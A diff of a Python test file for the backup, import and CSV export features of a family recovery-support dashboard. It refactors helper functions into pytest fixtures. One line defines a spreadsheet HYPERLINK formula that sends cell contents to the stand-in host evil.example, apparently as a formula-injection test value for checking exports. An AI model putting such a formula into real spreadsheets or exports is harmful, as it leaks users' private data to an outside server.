@@ -27,10 +27,8 @@ from dashboard.records import (
     CraftResponse,
     DailyCheckin,
     FamilyMember,
-    Household,
     LovedOne,
     ModuleRead,
-    Record,
     SmallWin,
     SoberActivity,
     TreatmentEvent,
@@ -45,13 +43,6 @@ TABLES = [record_type.table for record_type in RECORD_TYPES]
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 
 Payload = dict[str, Any]
-
-
-def dump(store: Store) -> dict[str, list[dict]]:
-    return {
-        table: [record.model_dump(mode="json") for record in records]
-        for table, records in store.dump_all().items()
-    }
 
 
 def add_edge_family(store: Store) -> HouseholdStore:
@@ -196,40 +187,12 @@ def filled(store: Store) -> Store:
     return store
 
 
-def other_family_payload() -> Payload:
-    """A valid backup of a family that is not in the database (built without one)."""
-    household = Household(name="The Other family")
-    loved_one = LovedOne(household_id=household.id, display_name="Kai")
-    member = FamilyMember(household_id=household.id, display_name="Rin")
-    checkins = [
-        DailyCheckin(
-            household_id=household.id,
-            loved_one_id=loved_one.id,
-            day=TODAY - timedelta(days=offset),
-            mood=3,
-            sleep=3,
-            logged_by=member.id,
-        )
-        for offset in range(3)
-    ]
-    records: list[Record] = [household, loved_one, member, *checkins]
-    payload: Payload = {"format": "harbor-backup", "version": 1, "exported_at": "2026-06-15Z"}
-    for record_type in RECORD_TYPES:
-        payload[record_type.table] = [
-            r.model_dump(mode="json") for r in records if isinstance(r, record_type)
-        ]
-    return payload
-
-
-def write(path: Path, payload: Payload) -> Path:
-    path.write_text(json.dumps(payload, ensure_ascii=False), encoding="utf-8")
-    return path
-
-
 # -- round trips ----------------------------------------------------------------------------
 
 
-def test_export_delete_import_gives_identical_data(filled: Store, tmp_path: Path) -> None:
+def test_export_delete_import_gives_identical_data(
+    filled: Store, tmp_path: Path, dump: Callable[[Store], dict]
+) -> None:
     before = dump(filled)
     counts = backup.export_json(filled, tmp_path / "backup.json")
     assert counts == {table: len(rows) for table, rows in before.items()}
@@ -243,7 +206,9 @@ def test_export_delete_import_gives_identical_data(filled: Store, tmp_path: Path
     assert dump(filled) == before
 
 
-def test_importing_the_same_file_twice_adds_nothing(filled: Store, tmp_path: Path) -> None:
+def test_importing_the_same_file_twice_adds_nothing(
+    filled: Store, tmp_path: Path, dump: Callable[[Store], dict]
+) -> None:
     backup.export_json(filled, tmp_path / "backup.json")
     before = dump(filled)
     for _ in range(2):
@@ -253,7 +218,12 @@ def test_importing_the_same_file_twice_adds_nothing(filled: Store, tmp_path: Pat
     assert dump(filled) == before
 
 
-def test_import_adds_only_what_is_new(store: Store, tmp_path: Path) -> None:
+def test_import_adds_only_what_is_new(
+    store: Store,
+    tmp_path: Path,
+    other_family_payload: Callable[[], Payload],
+    write: Callable[[Path, Payload], Path],
+) -> None:
     payload = other_family_payload()
     first = {**payload, "daily_checkins": payload["daily_checkins"][:1]}
     backup.import_file(store, write(tmp_path / "first.json", first))
@@ -262,7 +232,13 @@ def test_import_adds_only_what_is_new(store: Store, tmp_path: Path) -> None:
     assert store.counts()["daily_checkins"] == 3
 
 
-def test_dry_run_writes_nothing(store: Store, tmp_path: Path) -> None:
+def test_dry_run_writes_nothing(
+    store: Store,
+    tmp_path: Path,
+    dump: Callable[[Store], dict],
+    other_family_payload: Callable[[], Payload],
+    write: Callable[[Path, Payload], Path],
+) -> None:
     store.create_family(NewFamily("The Test family", "Sam", "Alex"))
     before = dump(store)
     path = write(tmp_path / "other.json", other_family_payload())
@@ -323,7 +299,13 @@ ENVELOPE_CASES = [
     ids=[c[0] for c in ENVELOPE_CASES],
 )
 def test_wrong_envelopes_are_rejected(
-    sqlite_store: Store, tmp_path: Path, change: Callable[[Payload], None], expected: str
+    sqlite_store: Store,
+    tmp_path: Path,
+    change: Callable[[Payload], None],
+    expected: str,
+    dump: Callable[[Store], dict],
+    other_family_payload: Callable[[], Payload],
+    write: Callable[[Path, Payload], Path],
 ) -> None:
     sqlite_store.create_family(NewFamily("The Test family", "Sam", "Alex"))
     before = dump(sqlite_store)
@@ -410,6 +392,9 @@ def test_bad_records_are_rejected_naming_table_index_and_field(
     index: int,
     field: str,
     expected: str,
+    dump: Callable[[Store], dict],
+    other_family_payload: Callable[[], Payload],
+    write: Callable[[Path, Payload], Path],
 ) -> None:
     store.create_family(NewFamily("The Test family", "Sam", "Alex"))
     before = dump(store)
@@ -424,7 +409,12 @@ def test_bad_records_are_rejected_naming_table_index_and_field(
     assert dump(store) == before
 
 
-def test_a_record_that_is_not_an_object_is_rejected(sqlite_store: Store, tmp_path: Path) -> None:
+def test_a_record_that_is_not_an_object_is_rejected(
+    sqlite_store: Store,
+    tmp_path: Path,
+    other_family_payload: Callable[[], Payload],
+    write: Callable[[Path, Payload], Path],
+) -> None:
     payload = other_family_payload()
     payload["small_wins"] = ["Went for a walk"]
     with pytest.raises(ImportRejected, match=r"^small_wins\[0\]: must be an object with fields$"):
@@ -444,7 +434,7 @@ def test_a_record_that_is_not_an_object_is_rejected(sqlite_store: Store, tmp_pat
     ids=["truncated", "empty", "list", "null", "utf-16"],
 )
 def test_undecodable_files_are_rejected(
-    sqlite_store: Store, tmp_path: Path, raw: bytes, expected: str
+    sqlite_store: Store, tmp_path: Path, raw: bytes, expected: str, dump: Callable[[Store], dict]
 ) -> None:
     sqlite_store.create_family(NewFamily("The Test family", "Sam", "Alex"))
     before = dump(sqlite_store)
@@ -458,7 +448,7 @@ def test_undecodable_files_are_rejected(
 
 
 def test_a_latin1_file_is_rejected_with_the_byte_and_position(
-    sqlite_store: Store, tmp_path: Path
+    sqlite_store: Store, tmp_path: Path, other_family_payload: Callable[[], Payload]
 ) -> None:
     payload = other_family_payload()
     payload["loved_ones"][0]["display_name"] = "Zoë"
@@ -482,7 +472,12 @@ def test_a_missing_file_is_rejected(sqlite_store: Store, tmp_path: Path) -> None
 
 @pytest.mark.parametrize("clash", [_duplicate_checkin, _day_clash], ids=["same id", "same day"])
 def test_a_clash_at_insert_writes_nothing(
-    store: Store, tmp_path: Path, clash: Callable[[Payload], None]
+    store: Store,
+    tmp_path: Path,
+    clash: Callable[[Payload], None],
+    dump: Callable[[Store], dict],
+    other_family_payload: Callable[[], Payload],
+    write: Callable[[Path, Payload], Path],
 ) -> None:
     store.create_family(NewFamily("The Test family", "Sam", "Alex"))
     before = dump(store)
@@ -495,7 +490,13 @@ def test_a_clash_at_insert_writes_nothing(
     assert dump(store) == before
 
 
-def test_the_unchanged_payload_imports(store: Store, tmp_path: Path) -> None:
+def test_the_unchanged_payload_imports(
+    store: Store,
+    tmp_path: Path,
+    dump: Callable[[Store], dict],
+    other_family_payload: Callable[[], Payload],
+    write: Callable[[Path, Payload], Path],
+) -> None:
     """The rejection cases above fail because of their one change, not the base file."""
     payload = other_family_payload()
     plan = backup.import_file(store, write(tmp_path / "backup.json", payload))
@@ -608,7 +609,9 @@ def test_csv_keeps_multiline_notes_and_empty_cravings(filled: Store, tmp_path: P
 # -- snapshots ------------------------------------------------------------------------------
 
 
-def test_snapshot_is_a_sound_copy(demo: HouseholdStore, tmp_path: Path) -> None:
+def test_snapshot_is_a_sound_copy(
+    demo: HouseholdStore, tmp_path: Path, dump: Callable[[Store], dict]
+) -> None:
     store = demo.store
     add_edge_family(store)
     out = tmp_path / "snapshots" / "harbor-copy.db"
